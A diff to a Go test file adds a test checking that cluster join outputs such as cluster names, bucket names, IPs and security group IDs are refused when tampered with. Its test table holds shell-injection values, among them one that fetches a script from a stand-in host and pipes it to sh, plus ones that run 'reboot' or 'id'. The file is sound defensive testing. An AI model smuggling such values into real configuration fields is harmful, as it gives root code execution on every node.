@@ -3,6 +3,7 @@ package render
 import (
 	"bytes"
 	"encoding/json"
+	"errors"
 	"flag"
 	"fmt"
 	"maps"
@@ -253,9 +254,44 @@ func TestJoinFromOutputs(t *testing.T) {
 		})
 	}
 
-	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-1, subnet-2,"}))
-	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-1", "subnet-2"}) {
+	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-0aaa1111, subnet-0bbb2222,"}))
+	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-0aaa1111", "subnet-0bbb2222"}) {
 		t.Errorf("SubnetIds with spaces: %q, %v", j.SubnetIds, err)
+	}
+}
+
+// A join value that does not have the shape of what it names is refused,
+// naming the output: it would reach root shell code on every node.
+func TestJoinFromOutputsRefusesTamperedValues(t *testing.T) {
+	for _, tc := range []struct{ output, value string }{
+		{"ClusterName", "prod; reboot"},
+		{"BucketName", "Prod_Bucket"},
+		{"BucketName", "b$(id)"},
+		{"ControlPrivateIp", "10.0.0.9'; curl http://203.0.113.9/x | sh; : '"},
+		{"ControlPrivateIp", "2001:db8::1"},
+		{"ControlSecurityGroupId", "sg-0c0c0c0c `id`"},
+		{"AgentSecurityGroupId", "sg-xyz"},
+		{"AgentInstanceProfile", "arn:aws:iam::123456789012:instance-profile/x'$(id)"},
+		{"AgentInstanceProfile", "prod-agents"},
+		{"VpcId", "vpc-0123\n"},
+		{"SubnetIds", "subnet-0aaa1111,subnet-0bbb2222 && reboot"},
+		{"ContractVersion", "1;id"},
+	} {
+		outs := mergeMap(testJoin.Outputs(), map[string]string{tc.output: tc.value})
+		_, err := JoinFromOutputs(outs)
+		var oe *OutputError
+		if !errors.As(err, &oe) || oe.Output != tc.output || !strings.Contains(err.Error(), "core output "+tc.output+" is ") {
+			t.Errorf("%s = %q: %v, want an *OutputError naming it", tc.output, tc.value, err)
+		}
+	}
+	for _, ok := range []map[string]string{
+		{"AgentInstanceProfile": "arn:aws-cn:iam::123456789012:instance-profile/path/to/p+1"},
+		{"BucketName": "core-bucket-0a1b2c.d"},
+		{"ControlSecurityGroupId": "sg-12345678"},
+	} {
+		if _, err := JoinFromOutputs(mergeMap(testJoin.Outputs(), ok)); err != nil {
+			t.Errorf("%v refused: %v", ok, err)
+		}
 	}
 }
 
